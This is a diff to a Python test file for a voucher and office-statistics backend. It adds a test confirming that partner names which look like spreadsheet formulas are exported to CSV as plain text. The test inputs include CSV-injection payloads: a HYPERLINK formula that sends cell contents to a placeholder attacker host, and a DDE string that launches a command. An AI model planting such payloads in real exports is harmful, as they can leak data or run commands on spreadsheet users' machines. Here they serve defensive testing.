@@ -6,6 +6,11 @@ import io
 import uuid
 from datetime import datetime, timezone
 
+import pytest
+
+from backend.csvsafe import FORMULA_STARTS
+from backend.office.service import stats_csv
+
 
 def redeem(client, auth_header, amount_fen: int) -> None:
     issued = client.post("/api/pass", headers=auth_header("citizen"), json={}).json
@@ -37,3 +42,16 @@ def test_csv_export_is_for_the_office_only(client, auth_header):
     assert client.get("/api/office/stats.csv").status_code == 401
     bad = client.get("/api/office/stats.csv?group_by=holder", headers=auth_header("office-analyst"))
     assert bad.status_code == 422 and bad.json["code"] == "validation_error"
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"点击领取")', "+1+cmd|' /C calc'!A0",
+                                  "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"])
+def test_a_name_that_starts_like_a_formula_is_exported_as_text(name):
+    # Partner and scenario names are typed by people outside the office (OWASP: CSV injection).
+    text = stats_csv(rows=[{"key": name, "redemptions": 1, "amount_fen": 100, "discount_fen": 2},
+                           {"key": "辣盆盆小龙虾饭店", "redemptions": 1, "amount_fen": 100, "discount_fen": 2}],
+                     group_by="partner")
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
+    assert rows[1] == ["'" + name, "1", "1.00", "0.02"]
+    assert rows[2] == ["辣盆盆小龙虾饭店", "1", "1.00", "0.02"]
+    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
